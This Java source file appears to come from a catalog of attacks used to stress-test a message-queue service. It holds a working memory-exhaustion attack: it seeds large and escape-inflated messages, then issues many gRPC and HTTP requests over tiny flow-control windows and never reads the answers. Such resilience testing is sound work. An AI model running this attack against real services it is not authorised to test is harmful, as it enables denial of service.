package dev.sluice.attacks.catalog;

import dev.sluice.attacks.wire.Frame;
import dev.sluice.attacks.wire.Grpc;
import dev.sluice.attacks.wire.Http2;
import dev.sluice.attacks.wire.HttpClient;
import dev.sluice.attacks.wire.Proto;
import java.io.IOException;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** Asks for large answers again and again, and does not read them. */
final class UnreadCalls extends Attack {
  private static final String LARGE = Target.TENANT + "unread-large";
  private static final String MANY_KEYS = Target.TENANT + "unread-keys";
  private static final int LARGE_MESSAGES = 16;
  private static final int LARGE_BYTES = 1 << 20;
  private static final int KEYS = 10_000;
  private static final int KEYS_AT_ONCE = 1_000;

  /** Quotes, each of which JSON writes as two characters, in requests and answers. */
  private static final String QUOTES = "\\\"".repeat(200);

  private static final int INITIAL_WINDOW_SIZE = 4;
  private static final int CALLS = 40;
  private static final int GRPC_THREADS = 4;
  private static final int GRPC_PAUSE_MS = 20;

  /** Few calls a second, so that the attack is on memory and not on the processor. */
  private static final int HTTP_THREADS = 1;

  private static final int HTTP_PAUSE_MS = 100;

  /** How long answers are left unread before the connections close and new ones are opened. */
  private static final int HOLD_MS = 3_000;

  private final String queue;
  private final String grpcPath;
  private final String httpPath;
  private final Proto request;

  private UnreadCalls(String name, String queue, String grpcPath, String httpPath, Proto request) {
    super(name, Family.BUDGETS, Access.TENANT_KEY, Bounds.of(2_000, 64, 32));
    this.queue = queue;
    this.grpcPath = grpcPath;
    this.httpPath = httpPath;
    this.request = request;
  }

  private static UnreadCalls grpc(String name, String queue, String path, Proto request) {
    return new UnreadCalls(name, queue, path, "", request);
  }

  private static UnreadCalls http(String name, String queue, String path) {
    return new UnreadCalls(name, queue, "", "/v1/queues/" + queue + path, new Proto());
  }

  static UnreadCalls peeks() {
    Proto request = new Proto().text(1, LARGE).number(2, 1_000);
    return grpc("grpc-unread-peeks", LARGE, Grpc.BROWSE, request);
  }

  /** Each lease lasts a second: the next call gets the same messages. */
  static UnreadCalls receives() {
    Proto request = new Proto().text(1, LARGE).number(2, 1_000).number(3, 3_000);
    return grpc("grpc-unread-receives", LARGE, Grpc.RECEIVE, request);
  }

  static UnreadCalls statistics() {
    return grpc(
        "grpc-unread-statistics", MANY_KEYS, Grpc.GET_QUEUE, new Proto().text(1, MANY_KEYS));
  }

  static UnreadCalls peeksOverHttp() {
    return http("unread-peeks", LARGE, "/browse?max_messages=1000");
  }

  static UnreadCalls keysOverHttp() {
    return http("unread-keys", MANY_KEYS, "/fairness-keys?limit=10000");
  }

  @Override
  void prepare(Attempt attempt) throws IOException {
    try (HttpClient client = attempt.httpClient(attempt.key())) {
      String config =
          "{\"name\":\"%s\",\"config\":{\"durability\":\"OS\",\"lease_timeout_ms\":1000}}";
      if (client.call("POST", "/v1/queues", config.formatted(queue)).status() >= 300) {
        return; // The queue exists already, with its messages.
      }
      boolean large = queue.equals(LARGE);
      int requests = large ? LARGE_MESSAGES : KEYS / KEYS_AT_ONCE;
      String path = "/v1/queues/%s/messages".formatted(queue);
      String message = "{\"payload\":\"%s\"}".formatted("x".repeat(LARGE_BYTES));
      for (int i = 0; i < requests; i++) {
        client.call("POST", path, large ? message : withKeys(i));
      }
    }
  }

  private static String withKeys(int batch) {
    String message = "{\"payload\":\"x\",\"fairness_key\":\"%06d-" + QUOTES + "\"}";
    return IntStream.range(batch * KEYS_AT_ONCE, (batch + 1) * KEYS_AT_ONCE)
        .mapToObj(message::formatted)
        .collect(Collectors.joining(",", "{\"messages\":[", "]}"));
  }

  @Override
  void run(Attempt attempt) throws InterruptedException {
    boolean grpc = httpPath.isEmpty();
    attempt.repeat(
        grpc ? GRPC_THREADS : HTTP_THREADS,
        () -> {
          if (grpc) {
            askOverGrpc(attempt);
          } else {
            askOverHttp(attempt);
          }
        });
  }

  private void askOverGrpc(Attempt attempt) throws IOException, InterruptedException {
    try (Http2 connection = attempt.grpc()) {
      connection.send(Frame.setting(INITIAL_WINDOW_SIZE, 0));
      byte[] content = Grpc.message(request.encode());
      for (int i = 0; i < CALLS; i++) {
        int stream = connection.newStream();
        connection.headers(stream, false, Grpc.headers(grpcPath, attempt.key()));
        connection.data(stream, true, content);
        attempt.pause(GRPC_PAUSE_MS);
      }
      attempt.pause(HOLD_MS);
    }
  }

  private void askOverHttp(Attempt attempt) throws IOException, InterruptedException {
    byte[] content = HttpClient.request("GET", httpPath, attempt.key(), "");
    List<Attempt.Connection> open = new ArrayList<>();
    try {
      for (int i = 0; i < CALLS; i++) {
        Attempt.Connection connection = attempt.narrowHttp();
        open.add(connection);
        connection.send(content);
        attempt.pause(HTTP_PAUSE_MS);
      }
      attempt.pause(HOLD_MS);
    } finally {
      for (Attempt.Connection each : open) {
        each.close();
      }
    }
  }
}
